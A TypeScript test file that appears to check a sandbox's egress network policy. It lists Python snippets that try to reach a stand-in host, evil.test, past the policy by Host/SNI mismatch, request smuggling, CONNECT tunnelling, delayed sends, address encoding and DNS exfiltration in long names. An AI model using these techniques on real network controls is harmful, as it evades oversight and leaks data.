/**
 * Attempts to circumvent a network policy. Each fails under `policy` and works under `control`, so it is
 * real.
 */
import type { NetworkPolicy } from '../../../src/engines/engine.ts';
import { TEST_RANGE } from './test-range.ts';

export interface Attempt {
  readonly title: string;
  /** Python, with `GOOD`, `EVIL`, `INNER`, `META` for the addresses and the helpers of the prelude. */
  readonly script: string;
  /** A line of the test servers' log that shows that it got through. */
  readonly reached: RegExp;
  readonly policy: NetworkPolicy;
  readonly control: NetworkPolicy;
}

const custom = (policy: Omit<NetworkPolicy, 'mode'>): NetworkPolicy => ({ mode: 'custom', ...policy });
export const ALL: NetworkPolicy = { mode: 'allow-all' };
export const NONE: NetworkPolicy = { mode: 'deny-all' };
const GOOD_ONLY = custom({ allow: ['good.test'] });
const BOTH = custom({ allow: ['good.test', 'evil.test', '*.evil.test'] });
const RANGE = custom({ allow: ['good.test'], subnets: { allow: [TEST_RANGE] } });
const EVIL_HTTP = /^http evil /;
const EVIL_HOST = /^http \w+ evil\.test/;

function attempt(
  title: string,
  script: string,
  reached: RegExp,
  control = BOTH,
  policy = GOOD_ONLY,
): Attempt {
  return { title, script, reached, policy, control };
}

/**
 * The prelude of every script. `tell` opens a connection and sends the parts one by one. `LIMIT` is how many
 * seconds a script waits for a response: far more than any takes, unless the script overrides it.
 */
export const PRELUDE = `
import socket, struct, time, sys
class Later:
  def __init__(self, name): self.name = name
  def __getattr__(self, member): return getattr(__import__(self.name), member)
# Most scripts need neither, and loading them takes longer than all else.
ssl, subprocess = Later('ssl'), Later('subprocess')
LIMIT = 60
def tcp(host, port, family=socket.AF_INET):
  s = socket.socket(family); s.settimeout(LIMIT); s.connect((host, port)); return s
def rest(s):
  out = b''
  try:
    while True:
      d = s.recv(65536)
      if not d: break
      out += d
  except OSError as e: out += b' ' + str(e).encode()
  return out
def tell(host, port, *parts, pause=0.0, family=socket.AF_INET):
  s = tcp(host, port, family)
  for p in parts:
    s.sendall(p); time.sleep(pause)
  out = rest(s); print(out); return out
def get(host, more=b'', path=b'/', method=b'GET'):
  return method + b' ' + path + b' HTTP/1.1\\r\\nHost: ' + host + b'\\r\\n' + more + b'Connection: close\\r\\n\\r\\n'
def tls(host, port, name):
  c = ssl._create_unverified_context()
  s = c.wrap_socket(tcp(host, port), server_hostname=name)
  s.sendall(get(b'x' if name is None else name.encode())); print(rest(s))
def hello(name, more=b''):
  c = ssl._create_unverified_context(); i = ssl.MemoryBIO(); o = ssl.MemoryBIO()
  b = c.wrap_bio(i, o, server_hostname=name)
  try: b.do_handshake()
  except ssl.SSLWantReadError: pass
  return o.read()
def ech(h):
  b = bytearray(h[9:]); p = 34; p += 1 + b[p]; p += 2 + struct.unpack('>H', b[p:p+2])[0]; p += 1 + b[p]
  e = b'\\xfe\\x0d\\0\\4\\0\\0\\0\\0'
  b[p:p+2] = struct.pack('>H', struct.unpack('>H', b[p:p+2])[0] + len(e)); b += e
  m = b'\\1' + struct.pack('>I', len(b))[1:] + bytes(b)
  return b'\\x16\\3\\1' + struct.pack('>H', len(m)) + m
def curl(*args): print(subprocess.run(['curl', '-sSk', '-m', str(LIMIT), *args], capture_output=True))
def ask(name, server='10.0.2.3', kind=1, over_tcp=False):
  q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
  if over_tcp: return tell(server, 53, struct.pack('>H', len(q)) + q)
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(LIMIT); s.sendto(q, (server, 53)); r = s.recv(4096); print(r); return r
`;

export const ATTEMPTS: readonly Attempt[] = [
  attempt('a name that is not allowed', `curl('http://evil.test/')`, EVIL_HTTP),
  attempt('a name that is not allowed, over HTTPS', `curl('https://evil.test/')`, /^tls evil/),
  attempt('another port', `curl('http://evil.test:8080/')`, EVIL_HTTP),
  attempt('TLS on another port', `tls('evil.test', 853, 'evil.test')`, /^tls evil/),
  attempt('a bare address', `curl('http://' + EVIL + '/')`, EVIL_HTTP, RANGE),
  attempt('a bare address over HTTPS', `curl('https://' + EVIL + '/')`, /^tls evil/, RANGE),
  attempt('a bare address over raw TCP', `tell(EVIL, 7777, b'x\\x01')`, /^tcp evil/, RANGE),
  attempt('a bare address without sending anything', `rest(tcp(EVIL, 7777))`, /^tcp evil/, RANGE),
  attempt(
    'an IPv4 address in IPv6',
    `tell('::ffff:' + EVIL, 80, get(b'evil.test'), family=socket.AF_INET6)`,
    EVIL_HTTP,
  ),
  attempt(
    'an address written as a number',
    `curl('http://%d/' % struct.unpack('>I', socket.inet_aton(EVIL)))`,
    EVIL_HTTP,
    RANGE,
  ),
  attempt('an allowed Host at another address', `tell(EVIL, 80, get(b'good.test'))`, EVIL_HTTP, RANGE),
  attempt('an allowed server name at another address', `tls(EVIL, 443, 'good.test')`, /^tls evil/, RANGE),
  attempt('another Host at an allowed address', `tell(GOOD, 80, get(b'evil.test'))`, EVIL_HOST),
  attempt('another server name at an allowed address', `tls(GOOD, 443, 'evil.test')`, /^tls \w+ evil\.test/),
  attempt('no server name at another address', `tls(EVIL, 443, None)`, /^tls evil/, RANGE),
  attempt(
    'a second request for another Host',
    `tell(GOOD, 80, b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n' + get(b'evil.test'))`,
    EVIL_HOST,
  ),
  attempt(
    'a second request for another Host, once the first is answered',
    `s = tcp(GOOD, 80); s.sendall(b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'); print(s.recv(4096)); s.sendall(get(b'evil.test')); print(rest(s))`,
    EVIL_HOST,
    ALL,
  ),
  attempt(
    'a request target with another host',
    `tell(GOOD, 80, get(b'good.test', path=b'http://evil.test/'))`,
    /evil\.test\/?$/,
    RANGE,
  ),
  attempt(
    'two Host headers',
    `tell(GOOD, 80, get(b'good.test', b'Host: evil.test\\r\\n'))`,
    /^http good good\.test/,
    RANGE,
  ),
  attempt('no Host at all', `tell(GOOD, 80, b'GET /nohost HTTP/1.0\\r\\n\\r\\n')`, /nohost/, RANGE),
  attempt('an address as the Host', `tell(GOOD, 80, get(EVIL.encode()))`, /^http \w+ 203\.0\.113/, RANGE),
  attempt(
    'empty lines before the request',
    `tell(GOOD, 80, b'\\r\\n\\r\\n' + get(b'evil.test'))`,
    EVIL_HOST,
    RANGE,
  ),
  attempt('a nonstandard method', `tell(GOOD, 80, get(b'evil.test', method=b'PURGE'))`, EVIL_HOST),
  attempt(
    'a request byte by byte',
    `tell(GOOD, 80, *[bytes([b]) for b in get(b'evil.test')], pause=0.002)`,
    EVIL_HOST,
  ),
  attempt(
    'a client hello byte by byte',
    `tell(GOOD, 7777, *[bytes([b]) for b in hello('evil.test')], pause=0.001)`,
    /^raw good \W/,
    RANGE,
  ),
  attempt(
    'CONNECT through an allowed host',
    `tell(GOOD, 80, b'CONNECT ' + EVIL.encode() + b':80 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')`,
    /^connect good/,
    RANGE,
  ),
  attempt(
    'CONNECT, then a request inside',
    `s = tcp(GOOD, 8080); s.sendall(b'CONNECT ' + EVIL.encode() + b':80 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'); s.recv(100); s.sendall(get(b'evil.test')); print(rest(s))`,
    EVIL_HTTP,
    RANGE,
  ),
  attempt('a redirect', `curl('-L', 'http://good.test/redirect')`, EVIL_HTTP),
  attempt(
    'an upgrade to another Host',
    `tell(GOOD, 80, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')`,
    /^upgrade \w+ evil/,
  ),
  attempt(
    'HTTP/2 without TLS',
    `tell(GOOD, 7777, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')`,
    /^raw good PRI/,
    RANGE,
  ),
  attempt(
    'a request sent late',
    `socket.gethostbyname('good.test'); s = tcp(GOOD, 7777); time.sleep(1.5); s.sendall(get(b'evil.test')); print(rest(s))`,
    /^raw good GET/,
    RANGE,
  ),
  attempt(
    'a request sent late to an HTTP server',
    `socket.gethostbyname('good.test'); s = tcp(GOOD, 7780); time.sleep(1.5); s.sendall(get(b'evil.test')); print(rest(s))`,
    EVIL_HOST,
    RANGE,
  ),
  attempt(
    'a request sent late, in two parts',
    `socket.gethostbyname('good.test'); s = tcp(GOOD, 7777); time.sleep(1.5); s.sendall(b'G'); time.sleep(0.3); s.sendall(get(b'evil.test')[1:]); print(rest(s))`,
    /^raw good G/,
    RANGE,
  ),
  attempt(
    'a client hello sent late',
    `socket.gethostbyname('good.test'); s = tcp(GOOD, 7777); time.sleep(1.5); s.sendall(hello('evil.test')); print(rest(s))`,
    /^raw good \W/,
    RANGE,
  ),
  attempt(
    'an encrypted client hello whose outer name is not allowed',
    `tell(GOOD, 7777, ech(hello('evil.test')))`,
    /^raw good \W/,
    RANGE,
  ),
  ...[
    ['two blanks', 'GET  / HTTP/1.1'],
    ['a tab', 'GET\\t/ HTTP/1.1'],
    ['a leading blank', ' GET / HTTP/1.1'],
    ['a version in lower case', 'GET / http/1.1'],
    ['no version', 'GET /'],
    ['whitespace that only some servers accept', 'GET\\x1c/ HTTP/1.1'],
  ].map(([title, line]) =>
    attempt(
      `a request line with ${title}`,
      `tell(GOOD, 7777, b'${line}\\r\\nHost: evil.test\\r\\n\\r\\n')`,
      /^raw good /,
      RANGE,
    ),
  ),
  attempt('a different name server', `ask('a1.evil.test', EVIL)`, /^dns a1\.evil/),
  attempt('a different name server over TCP', `ask('a2.evil.test', EVIL, over_tcp=True)`, /^dns a2\.evil/),
  attempt('data in long names', `ask('.'.join(['d' * 60] * 3) + '.evil.test')`, /^dns d{60}/),
  attempt(
    'a subdomain of an allowed name',
    `ask('data.good.test')`,
    /^dns data\.good/,
    custom({ allow: ['*.good.test'] }),
  ),
  attempt(
    'the apex of an allowed wildcard',
    `curl('http://good.test/')`,
    /^http good/,
    GOOD_ONLY,
    custom({ allow: ['*.good.test'] }),
  ),
  attempt('any name under deny-all', `curl('http://evil.test/')`, EVIL_HTTP, ALL, NONE),
  attempt('any address under deny-all', `tell(EVIL, 7777, b'x')`, /^tcp evil/, ALL, NONE),
  attempt('data in names under deny-all', `ask('n1.evil.test')`, /^dns n1\.evil/, ALL, NONE),
  attempt(
    'an allowed name in a denied subnet',
    `curl('http://evil.test/')`,
    EVIL_HTTP,
    BOTH,
    custom({ allow: ['evil.test'], subnets: { deny: [TEST_RANGE] } }),
  ),
  attempt(
    'an allowed subnet in a denied one',
    `tell(EVIL, 7777, b'x')`,
    /^tcp evil/,
    RANGE,
    custom({ subnets: { allow: ['203.0.113.0/24'], deny: ['203.0.112.0/23'] } }),
  ),
];
